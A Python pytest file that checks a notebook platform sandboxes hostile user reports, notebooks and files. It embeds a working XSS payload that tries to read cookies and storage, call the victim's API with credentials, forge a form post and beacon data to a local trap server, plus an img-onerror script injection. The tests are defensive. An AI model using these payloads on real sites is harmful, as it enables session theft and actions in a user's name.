"""What users make is hostile: a report, a notebook, a file try everything, in their frame and opened on their own."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import nbformat
import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, expect

from tests.functional.browser import SERVICE, Visitor, visiting
from tests.functional.conftest import Platform

pytestmark = [
    pytest.mark.functional,
    pytest.mark.browser,
    pytest.mark.timeout(600),
]

API = f"{SERVICE}api/v1"
OWNER, VICTIM = "mallory", "victor"

# Each try tells how it ended; whatever reaches the trap is seen there too.
ATTACK = """
<div id="attack">
<img src="TRAP/img"><video src="TRAP/video"></video><audio src="TRAP/audio"></audio><object data="TRAP/object"></object>
<embed src="TRAP/embed"><iframe src="TRAP/iframe"></iframe><iframe srcdoc="<img src='TRAP/srcdoc'>"></iframe>
<link rel="stylesheet" href="TRAP/style"><link rel="prefetch" href="TRAP/prefetch"><link rel="icon" href="TRAP/icon">
<style>@import "TRAP/import"; #attack { background: url("TRAP/background"); }
@font-face { font-family: trap; src: url("TRAP/font"); } #attack { font-family: trap; }</style>
<svg><image href="TRAP/svg"></image><script>window.svgRan = true</script></svg>
<form id="out" action="TRAP/form" method="post" target="_top"><input name="a" value="b"></form>
<form id="star" action="ORIGINSERVICEw/examples/seattle-season/favourite" method="post">
<input name="on" value="1"></form>
<a id="link" href="TRAP/link" target="_top">x</a><a id="popup" href="TRAP/popup" target="_blank">x</a>
<base href="TRAP/base/"><script src="TRAP/script"></script>
</div>
<script>
(async () => {
  const told = {};
  const tries = {
    cookie: () => document.cookie || "none",
    storage: () => localStorage.length,
    session: () => sessionStorage.length,
    parent: () => window.parent === window ? (() => { throw new Error("no parent"); })() : window.parent.document.title,
    top: () => window.top === window ? (() => { throw new Error("no other top"); })() : window.top.document.title,
    opener: () => window.opener.document.title,
    cookies: () => { document.cookie = "stolen=1"; return document.cookie || "none"; },
    fetch: () => fetch("TRAP/fetch", { mode: "no-cors" }),
    me: () => fetch("ORIGINAPI/workflows", { credentials: "include" }).then((r) => r.text()),
    hub: () => fetch("ORIGIN/hub/api/user", { credentials: "include" }).then((r) => r.text()),
    xhr: () => new Promise((ok, no) => {
      const x = new XMLHttpRequest(); x.onload = () => ok("sent"); x.onerror = () => no(new Error("refused"));
      x.open("GET", "TRAP/xhr"); x.send();
    }),
    socket: () => new Promise((ok, no) => {
      const s = new WebSocket("TRAP/socket".replace("http", "ws"));
      s.onopen = ok; s.onerror = () => no(new Error("refused"));
    }),
    events: () => new Promise((ok, no) => {
      const e = new EventSource("TRAP/events");
      e.onopen = ok; e.onerror = () => { e.close(); no(new Error("refused")); };
    }),
    worker: () => new Worker(URL.createObjectURL(new Blob(["fetch('TRAP/worker')"]))),
    module: () => import("TRAP/module"),
    eval: () => eval("1 + 1"),
    open: () => { if (!window.open("TRAP/open")) throw new Error("refused"); return "opened"; },
    alert: () => { window.alert("hi"); throw new Error("no dialog may show"); },
  };
  try { navigator.sendBeacon("TRAP/beacon", "x"); } catch (e) { /* refused */ }
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      const limit = new Promise((_, no) => setTimeout(() => no(new Error("no answer")), 2000));
      told[name] = "DID: " + String(await Promise.race([attempt(), limit])).slice(0, 80);
    } catch (e) { told[name] = "no: " + String(e).slice(0, 60); }
  }
  for (const id of ["out", "star"]) { try { document.getElementById(id).submit(); } catch (e) { /* refused */ } }
  for (const id of ["link", "popup"]) { try { document.getElementById(id).click(); } catch (e) { /* refused */ } }
  try { window.top.postMessage("x", "*"); } catch (e) { /* nobody listens */ }
  if (window.top !== window) { try { window.top.location = "TRAP/top"; } catch (e) { told.navigate = "no: " + e; } }
  console.log("TRIED" + JSON.stringify(told));
  setTimeout(() => { location.href = "TRAP/itself"; }, 5000);
})();
</script>
"""

TRIED = "TRIED"
HARMLESS = {"eval", "alert", "module", "worker"}  # of these, what counts is whether the trap was reached


class Trap(ThreadingHTTPServer):
    """Notes whoever comes."""

    daemon_threads = True

    def __init__(self) -> None:
        self.hits: list[str] = []
        trap = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                trap.hits.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815

            def log_message(self, *_: Any) -> None:
                """Keep quiet."""

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def trap() -> Iterator[Trap]:
    with Trap() as found:
        thread = threading.Thread(target=found.serve_forever, daemon=True)
        thread.start()
        yield found
        found.shutdown()
        thread.join()


@pytest.fixture
def victor(platform: Platform, browser: Browser, tmp_path: Path) -> Iterator[Visitor]:
    """A person who only looks, with everything to lose: she is signed in everywhere."""
    with visiting(browser, platform, tmp_path) as found:
        found.sign_in(VICTIM)
        yield found


def attack(platform: Platform, trap: Trap) -> str:
    text = ATTACK.replace("ORIGINSERVICE", platform.url + SERVICE).replace("ORIGINAPI", platform.url + API)
    return text.replace("ORIGIN", platform.url).replace("TRAP", trap.url)


def hostile_notebook(text: str, trap: str) -> str:
    """Return a notebook that shows something, has it as an output already, and leaves it as files."""
    source = (
        f"text = {text!r}\n"
        "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
        "display(HTML(text))\ndisplay(Markdown(text))\n"
        "open('page.html', 'w').write('<!doctype html><title>x</title>' + text)\n"
        "svg = '<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location.href = %r</script></svg>'\n"
        f"open('drawing.svg', 'w').write(svg % {trap + '/drawing'!r})\n"
        "open('page.xhtml', 'w').write(text)"
    )
    cell = nbformat.v4.new_code_cell(source)
    data = {"text/html": text, "text/plain": "x"}
    cell.outputs = [nbformat.v4.new_output("display_data", data=data)]
    cells = [nbformat.v4.new_markdown_cell(f"# Hostile\n\n{text}"), cell]
    return nbformat.writes(nbformat.v4.new_notebook(cells=cells))


def publish_and_run(platform: Platform, name: str, trap: Trap) -> str:
    """Publish a hostile workflow, run it, show the run to everybody; return its id."""
    with platform.api(OWNER) as api:
        body = {
            "name": name,
            "notebook": json.loads(hostile_notebook(attack(platform, trap), trap.url)),
            "visibility": "everyone",
        }
        assert api.post(f"{API}/workflows", json=body).status_code == 201
        made = api.post(f"{API}/workflows/{OWNER}/{name}/runs", json={}).json()
        run = wait_until_ended(api, made["id"])
        assert run["state"] == "succeeded", run
        assert api.put(f"{API}/runs/{run['id']}/example").status_code == 204
    return str(run["id"])


def wait_until_ended(api: httpx.Client, run_id: str) -> dict[str, Any]:
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:
        run: dict[str, Any] = api.get(f"{API}/runs/{run_id}").json()
        if run["ended_at"]:
            return run
        time.sleep(0.2)
    pytest.fail("the run did not end")


def outcomes(page: Page, go: Callable[[], object], within: str) -> dict[str, str]:
    """Go somewhere; return what the hostile script there managed to do, once it has tried everything.

    It tells so in the console: what it leaves in its page is gone once it has tried to lead itself away.

    Args:
        page: The victim's.
        go: Goes there.
        within: How the path of the frame ends that the script is in.
    """

    def has_tried(message: ConsoleMessage) -> bool:
        return message.text.startswith(TRIED) and urlsplit(message.location["url"]).path.endswith(within)

    with page.expect_console_message(has_tried) as told:
        go()
    found: dict[str, str] = json.loads(told.value.text.removeprefix(TRIED))
    assert len(found) > 15
    return {name: how for name, how in found.items() if how.startswith("DID") and name not in HARMLESS}


def assert_unharmed(victor: Visitor, trap: Trap) -> None:
    """Assert that nobody came to the trap, nothing opened, and nothing was done in the victim's name."""
    victor.page.wait_for_timeout(7000)  # past its last try to lead itself away; what is refused never arrives
    assert trap.hits == []
    assert len(victor.context.pages) == 1
    with victor.platform.api(VICTIM) as api:
        assert api.get(f"{API}/workflows", params={"favourite": "true"}).json()["items"] == []


def assert_in_a_sandbox(page: Page, title: str) -> None:
    expect(page.locator(f"iframe[title='{title}']")).to_have_attribute("sandbox", "allow-scripts")


def test_a_report_does_no_harm(platform: Platform, victor: Visitor, trap: Trap) -> None:
    run_id = publish_and_run(platform, "hostile-report", trap)
    address = f"{platform.url}{SERVICE}r/{run_id}"
    assert outcomes(victor.page, lambda: victor.page.goto(address), "/report") == {}
    assert_in_a_sandbox(victor.page, "Report of this run")
    assert victor.page.url == address
    assert_unharmed(victor, trap)

    alone = f"{address}/report"  # “Open on its own”
    assert outcomes(victor.page, lambda: victor.page.goto(alone), "/report") == {}
    assert_in_a_sandbox(victor.page, "Report of this run")
    assert victor.page.url == alone
    assert_unharmed(victor, trap)


def test_a_report_at_its_own_address_does_no_harm(platform: Platform, victor: Visitor, trap: Trap) -> None:
    run_id = publish_and_run(platform, "hostile-address", trap)
    report = f"{platform.url}{API}/runs/{run_id}/report"
    assert outcomes(victor.page, lambda: victor.page.goto(report), "/report") == {}
    expect(victor.page.locator("iframe[sandbox=allow-scripts]")).to_be_visible()
    assert_unharmed(victor, trap)
    assert victor.page.url == report


def test_a_workflows_page_shows_its_hostile_example_and_notebook_unharmed(
    platform: Platform, victor: Visitor, trap: Trap
) -> None:
    publish_and_run(platform, "hostile-example", trap)
    address = f"{platform.url}{SERVICE}w/{OWNER}/hostile-example"

    def to_the_example() -> None:
        victor.page.goto(address)
        victor.page.locator("iframe").scroll_into_view_if_needed()

    assert outcomes(victor.page, to_the_example, "/report") == {}
    assert_in_a_sandbox(victor.page, "Report of the example run")
    assert outcomes(victor.page, lambda: victor.page.goto(f"{address}?tab=notebook"), "/notebook") == {}
    assert_in_a_sandbox(victor.page, "The notebook")
    assert victor.page.url == f"{address}?tab=notebook"
    assert_unharmed(victor, trap)


@pytest.mark.parametrize("file", ["page.html", "drawing.svg"])
def test_a_file_at_its_own_address_does_no_harm(platform: Platform, victor: Visitor, trap: Trap, file: str) -> None:
    run_id = publish_and_run(platform, f"hostile-{file.partition('.')[0]}", trap)
    address = f"{platform.url}{API}/runs/{run_id}/artifacts/{file}"
    victor.page.goto(address)
    victor.page.wait_for_timeout(2500)
    assert victor.page.url == address
    assert_unharmed(victor, trap)


def test_what_has_no_known_type_is_only_ever_saved(platform: Platform, trap: Trap) -> None:
    run_id = publish_and_run(platform, "hostile-types", trap)
    with platform.api(VICTIM) as api:
        answer = api.get(f"{API}/runs/{run_id}/artifacts/page.xhtml")
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_a_hostile_title_description_and_tag_are_words_everywhere(
    platform: Platform, victor: Visitor, trap: Trap
) -> None:
    words = f"<img src={trap.url}/title onerror=alert(1)><script>alert(1)</script>"
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("raise ValueError('<b>bold</b>')")])
    with platform.api(OWNER) as api:
        body = {
            "name": "hostile-words",
            "notebook": json.loads(nbformat.writes(notebook)),
            "title": words,
            "description": words,
            "visibility": "everyone",
            "message": words,
        }
        assert api.post(f"{API}/workflows", json=body).status_code == 201
        run = wait_until_ended(api, api.post(f"{API}/workflows/{OWNER}/hostile-words/runs", json={}).json()["id"])
        assert run["state"] == "failed"
    dialogs: list[str] = []
    victor.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for path in ("gallery?q=title", f"w/{OWNER}/hostile-words", f"w/{OWNER}/hostile-words?tab=versions"):
        victor.go(path)
        expect(victor.page.get_by_text(words).first).to_be_visible()
    assert dialogs == []
    assert_unharmed(victor, trap)
